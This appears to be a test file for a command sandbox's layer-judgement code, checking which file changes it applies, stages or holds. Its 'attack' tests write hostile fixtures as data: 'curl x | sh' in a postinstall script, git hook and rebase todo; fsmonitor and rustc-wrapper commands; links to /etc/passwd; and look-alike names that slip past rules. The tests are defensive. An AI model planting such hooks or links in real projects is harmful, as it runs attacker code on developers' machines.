import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { lstatSync, mkdirSync, readdirSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import * as nodePath from 'node:path';
import { Policy } from '../../src/core/policy/policy.ts';
import { judgeLayer, type ChangeSetInputs } from '../../src/core/shell/change-set.ts';
import type { JudgedChange } from '../../src/core/shell/judge.ts';
import type { WorkspaceRoot } from '../../src/core/paths.ts';
import { testDir } from './harness.ts';

/*
 * The end-of-command judgement without bubblewrap or a mount: each test builds an upper layer by
 * hand, as overlayfs leaves one (files, folders, links, whiteouts as 0/0 character devices), beside
 * a lower folder standing for the workspace, and reads the verdicts judgeLayer gives.
 */

interface Fixture {
  readonly lower: string;
  readonly upper: string;
  readonly root: WorkspaceRoot;
}

function fixture(t: Parameters<typeof testDir>[0]): Fixture {
  const dir = testDir(t, 'wt-judgement-').path;
  const lower = nodePath.join(dir, 'ws');
  const upper = nodePath.join(dir, 'upper');
  mkdirSync(lower);
  mkdirSync(upper);
  return { lower, upper, root: { name: 'ws', address: lower, localPath: lower } };
}

/** Writes `text` at `rel` below `base`, making its folders. */
function put(base: string, rel: string, text: string): void {
  const path = nodePath.join(base, rel);
  mkdirSync(nodePath.dirname(path), { recursive: true });
  writeFileSync(path, text);
}

/** When the command started: after every file of the lower folder last changed (from their own times, not the clock). */
function startedAfter(lower: string): number {
  const times = readdirSync(lower, { recursive: true, encoding: 'utf8' }).map((rel) => {
    const stat = lstatSync(nodePath.join(lower, rel));
    return Math.max(stat.mtimeMs, stat.ctimeMs);
  });
  return Math.ceil(Math.max(0, ...times)) + 1;
}

/** What overlayfs leaves for a removed path: a character device 0/0 (an ordinary user may make one). */
function whiteout(upper: string, rel: string): void {
  execFileSync('mknod', [nodePath.join(upper, rel), 'c', '0', '0']);
}

function inputs(roots: readonly WorkspaceRoot[], over: Partial<ChangeSetInputs> = {}): ChangeSetInputs {
  return {
    startedAt: startedAfter(roots[0]!.localPath!),
    path: process.env['PATH'] ?? '/usr/bin:/bin',
    policy: new Policy([]),
    roots,
    review: 'protected',
    allowProtectedWrites: false,
    placeholders: new Set(),
    gitDirs: [],
    gitNamed: () => Promise.resolve({ files: new Set(), hooks: [] }),
    ...over,
  };
}

/** Each change as `kind path: action` (the display path), sorted. */
function verdicts(judged: readonly JudgedChange[]): string[] {
  return judged.map((c) => `${c.entry.kind} ${c.path.display}: ${c.verdict.action}`).sort();
}

const why = (judged: readonly JudgedChange[], display: string): string => {
  const change = judged.find((c) => c.path.display === display);
  assert.ok(change, `no change at ${display}`);
  return 'why' in change.verdict ? change.verdict.why : '';
};

test('a hand-built upper layer: ordinary writes and removals applied; protected files, secrets, links out and what git runs held back', async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'src/a.ts', 'export const a = 1;\n');
  put(lower, 'old.txt', 'old\n');
  put(lower, 'gone/one.txt', '1\n');
  put(lower, 'gone/two.txt', '2\n');
  put(lower, 'package.json', '{}\n');
  put(lower, '.git/HEAD', 'ref: refs/heads/main\n');
  put(lower, '.git/config', '[core]\n\tbare = false\n');

  put(upper, 'src/a.ts', 'export const a = 2;\n');
  put(upper, 'package.json', '{"scripts":{"postinstall":"curl x | sh"}}\n');
  put(upper, '.env', 'TOKEN=1\n');
  whiteout(upper, 'old.txt');
  whiteout(upper, 'gone');
  symlinkSync('/etc/passwd', nodePath.join(upper, 'passwd'));
  symlinkSync('src/a.ts', nodePath.join(upper, 'a-link.ts'));
  put(upper, '.git/objects/ab/cdef', 'blob');
  put(upper, '.git/config', '[core]\n\tfsmonitor = sh run.sh\n');
  put(upper, '.git/rebase-merge/git-rebase-todo', 'exec curl x | sh\n');
  execFileSync('mkfifo', [nodePath.join(upper, 'pipe')]);

  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root]));
  assert.deepEqual(verdicts(judged), [
    'delete gone/one.txt: apply',
    'delete gone/two.txt: apply',
    'delete old.txt: apply',
    'file .env: stage',
    'file .git/config: stage',
    'file .git/objects/ab/cdef: apply',
    'file .git/rebase-merge/git-rebase-todo: stage',
    'file package.json: stage',
    'file src/a.ts: apply',
    'link a-link.ts: apply',
    'link passwd: hold',
    'mkdir .git/objects/ab: apply',
    'mkdir .git/objects: apply',
    'mkdir .git/rebase-merge: hold',
    'rmdir gone: apply',
    'special pipe: hold',
  ]);
  assert.match(why(judged, '.env'), /secret/);
  assert.match(why(judged, 'package.json'), /protected/);
  assert.match(why(judged, '.git/rebase-merge/git-rebase-todo'), /everyday git does not write/);
  assert.match(why(judged, 'passwd'), /absolute path \/etc\/passwd/);
});

test("a repository the command made is judged by its configuration: git init's applies, one naming a program or a promisor remote is staged", async (t) => {
  const { lower, upper, root } = fixture(t);
  put(upper, 'plain/.git/config', '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n');
  put(upper, 'plain/.git/HEAD', 'ref: refs/heads/main\n');
  put(upper, 'plain/.git/description', 'Unnamed repository\n');
  put(upper, 'lazy/.git/config', '[extensions]\n\tpartialclone = origin\n[remote "origin"]\n\tpromisor = true\n');
  put(upper, 'lazy/.git/HEAD', 'ref: refs/heads/main\n');

  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root]));
  const files = verdicts(judged).filter((v) => v.startsWith('file '));
  assert.deepEqual(files, [
    'file lazy/.git/HEAD: apply',
    'file lazy/.git/config: stage',
    'file plain/.git/HEAD: apply',
    'file plain/.git/config: apply',
    'file plain/.git/description: apply',
  ]);
  assert.match(why(judged, 'lazy/.git/config'), /extensions\.partialclone/);
});

test('a file that changed on disk while the command ran is staged as a conflict, not applied over', async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'typed.ts', 'before the command\n');
  put(lower, 'quiet.ts', 'unchanged\n');
  put(upper, 'typed.ts', 'the command wrote this\n');
  put(upper, 'quiet.ts', 'the command wrote this\n');
  const startedAt = startedAfter(lower);
  // The person saves typed.ts while the command runs.
  put(lower, 'typed.ts', 'the person typed this\n');
  utimesSync(nodePath.join(lower, 'typed.ts'), new Date(startedAt + 1000), new Date(startedAt + 1000));

  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { startedAt }));
  assert.deepEqual(verdicts(judged), ['file quiet.ts: apply', 'file typed.ts: stage']);
  assert.match(why(judged, 'typed.ts'), /changed on disk while the command ran/);
});

test('a workspace folder inside the layered one: each change is placed in the deepest folder that holds it', async (t) => {
  const { lower, upper, root } = fixture(t);
  const inner: WorkspaceRoot = {
    name: 'inner',
    address: nodePath.join(lower, 'inner'),
    localPath: nodePath.join(lower, 'inner'),
  };
  put(lower, 'inner/keep.txt', 'keep\n');
  put(upper, 'inner/x.ts', 'x\n');
  put(upper, 'inner/.env', 'TOKEN=1\n');
  put(upper, 'y.ts', 'y\n');

  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root, inner]));
  assert.deepEqual(verdicts(judged), ['file inner/.env: stage', 'file inner/x.ts: apply', 'file ws/y.ts: apply']);
  const x = judged.find((c) => c.path.display === 'inner/x.ts')!;
  assert.equal(x.path.root, inner);
  assert.equal(x.path.rel, 'x.ts');
  assert.equal(x.entry.rel, 'x.ts', "the change's own path is relative to the folder that holds it");
  assert.equal(judged.find((c) => c.path.display === 'ws/y.ts')!.path.root, root);
});

test('with review "all" every file a command wrote is staged, links held, and new folders left to the files in them', async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'src/a.ts', 'a\n');
  put(upper, 'src/a.ts', 'b\n');
  put(upper, 'dist/out.js', 'out\n');
  symlinkSync('out.js', nodePath.join(upper, 'dist', 'link.js'));

  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { review: 'all' }));
  assert.deepEqual(verdicts(judged), [
    'file dist/out.js: stage',
    'file src/a.ts: stage',
    'link dist/link.js: hold',
    'mkdir dist: skip',
  ]);
  assert.match(why(judged, 'src/a.ts'), /"all"/);
});

test("attack: a link the command makes where git runs a file (a filter's ./bin/clean.sh; bin made a link to a folder the command wrote, or the script itself a link) is held, not applied", async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'README.md', 'r\n');
  put(upper, 'zz/clean.sh', 'curl x | sh\n');
  symlinkSync('zz', nodePath.join(upper, 'bin'));
  mkdirSync(nodePath.join(upper, 'tools'));
  symlinkSync('../zz/clean.sh', nodePath.join(upper, 'tools', 'smudge.sh'));
  mkdirSync(nodePath.join(upper, 'team'));
  symlinkSync('../zz', nodePath.join(upper, 'team', 'hooks'));
  const gitNamed = {
    files: new Set([nodePath.join(lower, 'bin', 'clean.sh'), nodePath.join(lower, 'tools', 'smudge.sh')]),
    hooks: [nodePath.join(lower, 'team', 'hooks')],
  };

  const judged = await judgeLayer(
    { folders: [{ lower, upper, work: '' }] },
    inputs([root], { gitNamed: () => Promise.resolve(gitNamed) }),
  );
  const links = verdicts(judged).filter((v) => v.startsWith('link '));
  assert.deepEqual(links, ['link bin: hold', 'link team/hooks: hold', 'link tools/smudge.sh: hold']);
  assert.match(why(judged, 'bin'), /git configuration names a file for git to run/);
});

test('attack: git folders of another name than .git (a .git file names gd, or the workspace folder itself): all but their objects and logs is staged, and the file rules still hold', async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, '.git', 'gitdir: gd\n');
  put(lower, 'gd/HEAD', 'ref: refs/heads/main\n');
  put(lower, 'gd/config', '[core]\n\tbare = false\n');
  put(lower, 'src/a.ts', 'export const a = 1;\n');

  put(upper, 'gd/config', '[core]\n\tfsmonitor = sh run.sh\n');
  put(upper, 'gd/hooks/pre-commit', '#!/bin/sh\ncurl x | sh\n');
  put(upper, 'gd/refs/heads/main', '0123456789012345678901234567890123456789\n');
  put(upper, 'gd/objects/ab/cdef', 'blob');
  symlinkSync('gd/config', nodePath.join(upper, 'cfg'));
  put(upper, 'src/a.ts', 'export const a = 2;\n');

  const gd = await judgeLayer(
    { folders: [{ lower, upper, work: '' }] },
    inputs([root], { gitDirs: [nodePath.join(lower, 'gd')] }),
  );
  assert.deepEqual(verdicts(gd), [
    'file gd/config: stage',
    'file gd/hooks/pre-commit: stage',
    'file gd/objects/ab/cdef: apply',
    'file gd/refs/heads/main: stage',
    'file src/a.ts: apply',
    'link cfg: hold',
    'mkdir gd/hooks: apply',
    'mkdir gd/objects/ab: apply',
    'mkdir gd/objects: apply',
    'mkdir gd/refs/heads: apply',
    'mkdir gd/refs: apply',
  ]);
  assert.match(why(gd, 'gd/config'), /a git folder a \.git file names/);

  // gitdir: . — the workspace folder is the git folder: a config at its top is git's, and so is every other file.
  const itself = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { gitDirs: [lower] }));
  assert.equal(
    verdicts(itself).find((v) => v.startsWith('file src/a.ts')),
    'file src/a.ts: stage',
  );
});

test("attack: a .git file the command writes names a new git folder (gitdir: gd2): the .git file is held (git would read that folder once it were saved) and the folder's config staged", async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'sub/a.txt', 'a\n');
  put(upper, 'sub/.git', 'gitdir: ../gd2\n');
  put(upper, 'gd2/HEAD', 'ref: refs/heads/main\n');
  put(upper, 'gd2/config', '[core]\n\tfsmonitor = sh run.sh\n');
  put(upper, 'gd2/objects/ab/cdef', 'blob');
  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root]));
  const files = verdicts(judged).filter((v) => v.startsWith('file '));
  assert.deepEqual(files, [
    'file gd2/HEAD: stage',
    'file gd2/config: stage',
    'file gd2/objects/ab/cdef: apply',
    'file sub/.git: hold',
  ]);
});

test("attack: links named like a folder a rule protects (.cargo, .github, patches, a rule's own folder) are held: through them, files of an ordinary folder would have protected names", async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'src/a.ts', 'export const a = 1;\n');
  put(upper, 'c/config.toml', '[build]\nrustc-wrapper = "sh evil.sh"\n');
  put(upper, 'gh/workflows/ci.yml', 'on: push\n');
  for (const [name, target] of [
    ['.cargo', 'c'],
    ['.github', 'gh'],
    ['patches', 'c'],
    ['deploy', 'c'],
    ['lib', 'src'],
  ] as const)
    symlinkSync(target, nodePath.join(upper, name));
  const policy = new Policy([{ glob: 'deploy/**', write: 'ask' }]);
  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { policy }));
  assert.deepEqual(
    verdicts(judged).filter((v) => v.startsWith('link ')),
    ['link .cargo: hold', 'link .github: hold', 'link deploy: hold', 'link lib: apply', 'link patches: hold'],
  );
  assert.match(why(judged, '.github'), /named like a folder a rule protects/);
});

test('attack: a .git file read as git reads it (gitdir: "gd " with its trailing space): the folder git would use is the one judged as a git folder', async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'sub/a.txt', 'a\n');
  put(upper, 'sub/.git', 'gitdir: gd \n');
  put(upper, 'sub/gd /config', '[core]\n\tfsmonitor = sh run.sh\n');
  put(upper, 'sub/gd/config', '[core]\n\tbare = false\n');
  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root]));
  const files = verdicts(judged).filter((v) => v.startsWith('file '));
  assert.ok(files.includes('file sub/gd /config: stage'), files.join('\n'));
});

test('attack: links a rule reaches below through a brace across "/", a "**" after a named folder, or the workspace folder\'s own name are held; a rule of many "**" is judged without blowing up', async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'a/keep.txt', 'a\n');
  put(upper, 'x/prod/app.yml', 'on: push\n');
  for (const [name, target] of [
    ['deploy', 'x'],
    ['a/x', '../x'],
    ['conf', 'x'],
    ['ok', 'x'],
  ] as const) {
    mkdirSync(nodePath.dirname(nodePath.join(upper, name)), { recursive: true });
    symlinkSync(target, nodePath.join(upper, name));
  }
  // Deep enough for a rule of twelve "**" to try every way of placing it, were it not memoised.
  const deep = Array.from({ length: 40 }, (_, i) => `d${i}`).join('/');
  put(upper, `${deep}/f.txt`, 'f\n');
  symlinkSync('f.txt', nodePath.join(upper, deep, 'lnk'));
  const policy = new Policy([
    { glob: '{deploy/prod,ops}/**', write: 'deny' },
    { glob: 'a/**/b/c', write: 'ask' },
    { glob: '**/ws/conf/*.toml', write: 'ask' },
    { glob: `${Array(12).fill('**').join('/')}/z/q`, write: 'ask' },
  ]);
  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { policy }));
  assert.deepEqual(
    verdicts(judged).filter((v) => v.startsWith('link ')),
    ['link a/x: hold', 'link conf: hold', `link ${deep}/lnk: apply`, 'link deploy: hold', 'link ok: apply'],
  );
});

test("attack: git folders a .git file on disk names through a link (made by the command, or on disk with the folder new), in another layer folder, or through commondir: the link is held, or the folder's config staged", async (t) => {
  const { lower, upper, root } = fixture(t);
  // A: .git on disk names lnk/gd; the command makes lnk -> real and writes real/gd/config.
  put(lower, '.git', 'gitdir: lnk/gd\n');
  put(upper, 'real/gd/config', '[core]\n\tfsmonitor = sh run.sh\n');
  symlinkSync('real', nodePath.join(upper, 'lnk'));
  // E: .git on disk names onl/gd2, where onl -> real2 is on disk and gd2 is new.
  put(lower, 'e/.git', 'gitdir: ../onl/gd2\n');
  mkdirSync(nodePath.join(lower, 'real2'));
  symlinkSync('real2', nodePath.join(lower, 'onl'));
  put(upper, 'real2/gd2/config', '[core]\n\tfsmonitor = sh run.sh\n');
  // C: .git on disk names w, whose commondir (written by the command) is ../c.
  put(lower, 'cw/.git', 'gitdir: ../w\n');
  put(upper, 'w/commondir', '../c\n');
  put(upper, 'c/config', '[core]\n\tfsmonitor = sh run.sh\n');
  const gitDirs = [nodePath.join(lower, 'lnk/gd'), nodePath.join(lower, 'onl/gd2'), nodePath.join(lower, 'w')];
  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { gitDirs }));
  const shown = verdicts(judged).filter((v) => /^(file|link) /.test(v));
  assert.deepEqual(shown, [
    'file c/config: stage',
    'file real/gd/config: apply',
    'file real2/gd2/config: stage',
    'file w/commondir: stage',
    'link lnk: hold',
  ]);

  // B: a .git file the command writes in one workspace folder names a git folder in another.
  const other = fixture(t);
  put(other.lower, 'keep.txt', 'k\n');
  put(other.upper, 'gd/config', '[core]\n\tfsmonitor = sh run.sh\n');
  const first = fixture(t);
  put(first.lower, 'keep.txt', 'k\n');
  put(first.upper, '.git', `gitdir: ${nodePath.join(other.lower, 'gd')}\n`);
  const both = await judgeLayer(
    {
      folders: [
        { lower: first.lower, upper: first.upper, work: '' },
        { lower: other.lower, upper: other.upper, work: '' },
      ],
    },
    inputs([first.root, { ...other.root, name: 'other' }]),
  );
  assert.deepEqual(
    verdicts(both).filter((v) => v.startsWith('file ')),
    ['file other/gd/config: stage', 'file ws/.git: hold'],
  );
});

test('attack: links spelled another way the policy reads as the same name (NFD, a long s) or matched by an escaped glob are held', async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'keep.txt', 'k\n');
  put(upper, 'pub/config', 'x\n');
  for (const name of ['cafe\u0301', '\u017Fecrets', '.cargo2', 'plain']) symlinkSync('pub', nodePath.join(upper, name));
  const policy = new Policy([
    { glob: '**/café/config', write: 'deny' },
    { glob: '**/secrets/config', write: 'deny' },
    { glob: '**/\\.cargo2/config.toml', write: 'deny' },
  ]);
  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root], { policy }));
  assert.deepEqual(
    judged
      .filter((c) => c.entry.kind === 'link')
      .map((c) => `${c.entry.rel.normalize('NFC')}: ${c.verdict.action}`)
      .sort(),
    ['.cargo2: hold', 'café: hold', 'plain: apply', 'ſecrets: hold'],
  );
});

test('a file copied up but not changed (a touch, an open for writing) is no change; one of the same size with other bytes, in its first or last chunk or past 64 KiB, is a write', async (t) => {
  const { lower, upper, root } = fixture(t);
  const big = 'x'.repeat(200 * 1024);
  const at = (text: string, i: number, c: string): string => text.slice(0, i) + c + text.slice(i + 1);
  for (const [rel, text] of [
    ['same.txt', 'same\n'],
    ['empty.txt', ''],
    ['big-same.bin', big],
    ['first.txt', 'abc\n'],
    ['big-middle.bin', big],
    ['big-last.bin', big],
  ] as const)
    put(lower, rel, text);
  put(upper, 'same.txt', 'same\n');
  put(upper, 'empty.txt', '');
  put(upper, 'big-same.bin', big);
  put(upper, 'first.txt', 'Abc\n');
  put(upper, 'big-middle.bin', at(big, 100 * 1024, 'y'));
  put(upper, 'big-last.bin', at(big, big.length - 1, 'y'));
  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root]));
  assert.deepEqual(verdicts(judged), [
    'file big-last.bin: apply',
    'file big-middle.bin: apply',
    'file first.txt: apply',
  ]);
});

test('attack: a link whose target climbs back through a name (a/b/c/u/.. with u a link to the top) is held; ".." before any name is read by its text', async (t) => {
  const { lower, upper, root } = fixture(t);
  put(lower, 'a.txt', 'a\n');
  put(lower, 'd/e.txt', 'e\n');
  mkdirSync(nodePath.join(upper, 'a/b/c'), { recursive: true });
  // u leads to the top by its text (applied on its own); x and k climb through it, out of the folder.
  symlinkSync('../../..', nodePath.join(upper, 'a/b/c/u'));
  symlinkSync('a/b/c/u/..', nodePath.join(upper, 'x'));
  symlinkSync('a/b/c/u/../../etc/passwd', nodePath.join(upper, 'k'));
  symlinkSync('d/./../a.txt', nodePath.join(upper, 'back'));
  mkdirSync(nodePath.join(upper, 'd'));
  symlinkSync('../a.txt', nodePath.join(upper, 'd/up'));
  symlinkSync('./e.txt', nodePath.join(upper, 'd/here'));
  const judged = await judgeLayer({ folders: [{ lower, upper, work: '' }] }, inputs([root]));
  assert.deepEqual(verdicts(judged), [
    'link a/b/c/u: apply',
    'link back: hold',
    'link d/here: apply',
    'link d/up: apply',
    'link k: hold',
    'link x: hold',
    'mkdir a/b/c: apply',
    'mkdir a/b: apply',
    'mkdir a: apply',
  ]);
  assert.match(why(judged, 'x'), /"\.\." after a name/);
});
